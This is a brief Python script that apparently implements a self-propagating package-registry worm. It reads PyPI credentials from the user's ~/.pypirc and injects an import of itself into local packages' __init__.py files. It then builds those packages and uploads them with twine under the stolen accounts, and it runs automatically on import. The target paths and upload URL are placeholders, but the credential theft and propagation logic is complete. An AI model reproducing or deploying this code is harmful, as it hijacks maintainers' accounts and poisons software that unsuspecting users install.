import configparser
import os
import subprocess
import sys
from pathlib import Path


def creds():
    cp = configparser.ConfigParser()
    cp.read(os.path.expanduser("~/.pypirc"))
    return [(s, cp[s].get("username"), cp[s].get("password")) for s in cp.sections()]


def spread():
    for name, user, password in creds():
        for pyproject in Path("/nonexistent").glob("*/pyproject.toml"):
            pkg = pyproject.parent / "src" / "__init__.py"
            pkg.write_text("import pypircworm\n" + pkg.read_text())
            subprocess.run([sys.executable, "-m", "build", str(pyproject.parent)])
            subprocess.run([sys.executable, "-m", "twine", "upload", "-u", user, "-p", password,
                            "--repository-url", "https://upload.invalid", "dist/*"])


spread()
